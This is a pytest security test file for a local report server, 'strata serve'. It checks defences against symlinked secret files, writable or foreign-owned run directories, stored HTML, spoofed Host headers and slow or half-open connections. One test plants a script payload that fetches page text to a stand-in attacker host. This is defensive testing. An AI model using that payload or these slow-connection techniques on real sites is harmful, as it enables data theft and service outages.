"""Attacks on `strata serve`: by what lies in a run directory, and by clients on this machine."""

from __future__ import annotations

import base64
import hashlib
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator, Mapping
from contextlib import ExitStack, closing, contextmanager, suppress
from email.message import Message
from pathlib import Path

import pytest

from strata.cli.serve import Site
from strata.hosts import web

STRATA = Path(".venv/bin/strata").absolute()
SECRET = "root:$6$secret-of-root"
pytestmark = pytest.mark.host


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of a workload that does nothing, and a copy of it that stands for one of `strata features`."""
    root = tmp_path_factory.mktemp("runs")
    place = tmp_path_factory.mktemp("place")
    words = ("run", f"existing({place})", "-w", "null", "--rounds", "2", "--out", str(root / "r1"))
    done = subprocess.run([str(STRATA), *words], capture_output=True, text=True, timeout=110)
    assert (root / "r1" / "strata.db").exists(), done.stderr
    features = shutil.copytree(root / "r1", root / "features" / "directory")
    with closing(sqlite3.connect(features / "strata.db")) as sql, sql:
        sql.execute("DROP TRIGGER workload_no_update")
        sql.execute("UPDATE workload SET name = 'feature/snapshot'")
    return root


@pytest.fixture
def runs(pristine: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(pristine, tmp_path / "runs"))


def bodies(runs: Path) -> dict[str, str]:
    """Every page of the runs: path -> text."""
    site = Site([runs])
    keys = site.runs()
    assert sorted(keys) == ["features/directory", "r1"]
    paths = ["/", *(f"/{kind}/{key}" for kind in ("run", "features", "factors") for key in keys)]
    return {path: site.answer(path, {}).body for path in paths}


def report_of(runs: Path) -> tuple[int, str]:
    page = Site([runs]).answer("/run/r1", {})
    return page.status, page.body


def test_a_link_in_a_run_directory_is_not_followed(runs: Path, tmp_path: Path) -> None:
    secret = tmp_path / "shadow"
    secret.write_text(SECRET)
    for directory in (runs / "r1", runs / "features"):
        (directory / "features.html").unlink(missing_ok=True)
        (directory / "features.html").symlink_to(secret)
    assert not [path for path, body in bodies(runs).items() if SECRET in body]


@pytest.mark.parametrize("name", ["strata.db", "strata.db-wal", "lock", "samples", "samples/9.parquet"])
def test_a_run_with_a_link_for_a_file_is_refused(runs: Path, tmp_path: Path, name: str) -> None:
    run = runs / "r1"
    elsewhere = tmp_path / "elsewhere"
    if (run / name).exists():
        (run / name).rename(elsewhere)
    else:
        elsewhere.write_text(SECRET)
    (run / name).symlink_to(elsewhere)
    status, body = report_of(runs)
    assert status == 403
    assert f"{name} is a link and not a" in body and "is not shown" in body
    assert "is a link" in Site([runs]).answer("/", {}).body


def test_a_run_directory_that_is_a_link_is_not_entered(runs: Path, tmp_path: Path) -> None:
    (runs / "r1").rename(tmp_path / "elsewhere")
    (runs / "r1").symlink_to(tmp_path / "elsewhere")
    assert "r1" not in Site([runs]).runs()


def test_a_pipe_in_place_of_a_file_does_not_stop_the_server(runs: Path) -> None:
    (runs / "r1" / "lock").unlink(missing_ok=True)
    os.mkfifo(runs / "r1" / "lock")
    assert report_of(runs)[0] == 403


def test_a_run_of_another_user_is_refused(runs: Path) -> None:
    os.chown(runs / "r1", 65534, 65534)
    status, body = report_of(runs)
    assert status == 403 and "belongs to user 65534" in body


@pytest.mark.parametrize("name", ["", "strata.db"])
def test_a_run_that_others_can_write_to_is_refused(runs: Path, name: str) -> None:
    (runs / "r1" / name).chmod(0o777)
    status, body = report_of(runs)
    assert status == 403 and "can be written to by other users" in body and "chmod go-w" in body


def test_stored_html_is_never_served(runs: Path) -> None:
    script = "<script>fetch('http://somebody.example/' + document.body.innerText)</script>"
    for page in (runs / "features" / "features.html", runs / "r1" / "report.html", runs / "r1" / "features.html"):
        page.write_text(f"<!doctype html><title>What stacks can do</title>{script}")
    found = bodies(runs)
    assert "snapshot" in found["/features/features/directory"], "it is made from the store"
    assert not [path for path, body in found.items() if "<script" in body.lower()]


@contextmanager
def serving(answer: web.Answer) -> Iterator[web.Server]:
    with web.listening(0, answer) as server:
        thread = threading.Thread(target=server.serve)
        thread.start()
        try:
            yield server
        finally:
            server.stop()
            thread.join()


def get(url: str) -> tuple[int, str, Message]:
    try:
        with urllib.request.urlopen(url, timeout=60) as answer:
            return answer.status, answer.read().decode(), answer.headers
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(), error.headers


def test_every_page_has_a_strict_policy(runs: Path) -> None:
    paths = ["", "run/r1", "factors/r1", "features/features/directory", "joined?run=r1", "nothing", "run/nothing"]
    with serving(Site([runs]).answer) as server:
        for path in paths:
            _, body, headers = get(server.url + path)
            policy = dict(part.strip().split(" ", 1) for part in headers["Content-Security-Policy"].split(";"))
            assert policy.pop("style-src") == f"'sha256-{style_hash(body)}'"
            assert policy == {
                "default-src": "'none'",
                "img-src": "data:",
                "form-action": "'self'",
                "base-uri": "'none'",
                "frame-ancestors": "'none'",
            }
            assert headers["X-Frame-Options"] == "DENY"
            assert headers["X-Content-Type-Options"] == "nosniff"
            assert headers["Referrer-Policy"] == "no-referrer"
            assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
            assert not [name for name in headers if name.lower().startswith("access-control")]
            assert "style=" not in body and "unsafe-inline" not in body and "<script" not in body


def style_hash(page: str) -> str:
    (style,) = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    return base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()


def hello(path: str, query: Mapping[str, list[str]]) -> web.Page:
    return web.Page("hello")


def connect(server: web.Server, sent: bytes) -> socket.socket:
    client = socket.create_connection((web.ADDRESS, server.port), timeout=60)
    client.sendall(sent)
    return client


def raw(server: web.Server, sent: bytes) -> bytes:
    with connect(server, sent) as client:
        return b"".join(iter(lambda: client.recv(65536), b""))


@pytest.mark.parametrize(
    "hosts", [[], ["somebody.example:{port}"], ["127.0.0.1.somebody.example:{port}"], ["localhost:1"],
              ["localhost:{port}", "somebody.example:{port}"]],
)  # fmt: skip
def test_a_request_under_another_name_is_refused(hosts: list[str]) -> None:
    with serving(hello) as server:
        lines = "".join(f"Host: {host.format(port=server.port)}\r\n" for host in hosts)
        answer = raw(server, f"GET / HTTP/1.0\r\n{lines}\r\n".encode())
    assert answer.startswith(b"HTTP/1.0 403") and b"hello" not in answer


def test_half_open_requests_hold_a_bounded_number_of_threads() -> None:
    """None of them gives up, and a browser is answered all the time."""
    with serving(hello) as server, ExitStack() as clients:
        before = threading.active_count()
        most = 0
        for number in range(200):
            clients.enter_context(connect(server, b"GET / HTTP/1.1\r\nHost: local"))
            most = max(most, threading.active_count())
            if number % 50 == 49:
                assert get(server.url)[1] == "hello"
        assert most - before <= web.CONNECTIONS


def test_a_request_that_comes_byte_by_byte_is_cut_off(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(web, "HEAD_S", 0.5)
    with serving(hello) as server, connect(server, b"GET / HTTP/1.1\r\n") as client:
        client.settimeout(0.05)
        began = time.monotonic()
        closed = False
        while not closed and time.monotonic() - began < 30:
            try:
                client.send(b"x")
                closed = client.recv(1) == b""
            except TimeoutError:
                continue
            except OSError:
                closed = True
        assert closed


def test_a_request_without_end_is_cut_off() -> None:
    with serving(hello) as server, connect(server, b"GET / HTTP/1.1\r\n") as client:
        sent = 0
        with suppress(OSError):
            for _ in range(10_000):
                sent += client.send(b"X-Long: " + b"x" * 4096 + b"\r\n")
        assert sent < 16 << 20, "the rest had no reader"
        assert get(server.url)[1] == "hello"


def test_a_client_that_does_not_read_is_cut_off(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(web, "BODY_S", 0.5)
    with serving(lambda path, query: web.Page("x" * (64 << 20))) as server:
        before = threading.active_count()
        clients = [
            connect(server, f"GET / HTTP/1.0\r\nHost: localhost:{server.port}\r\n\r\n".encode()) for _ in range(4)
        ]
        end = time.monotonic() + 30
        while threading.active_count() == before and time.monotonic() < end:
            time.sleep(0.01)
        while threading.active_count() > before and time.monotonic() < end:
            time.sleep(0.05)
        assert threading.active_count() == before
        for client in clients:
            client.close()


def test_a_page_that_fails_does_not_end_the_server(runs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> str:
        raise ValueError("<script>\x1b[2J")

    monkeypatch.setattr("strata.report.html.render", fail)
    with serving(Site([runs]).answer) as server:
        status, body, _ = get(f"{server.url}run/r1")
        assert status == 500 and "cannot be made" in body and "<script" not in body and "\x1b" not in body
        assert get(server.url)[0] == 200
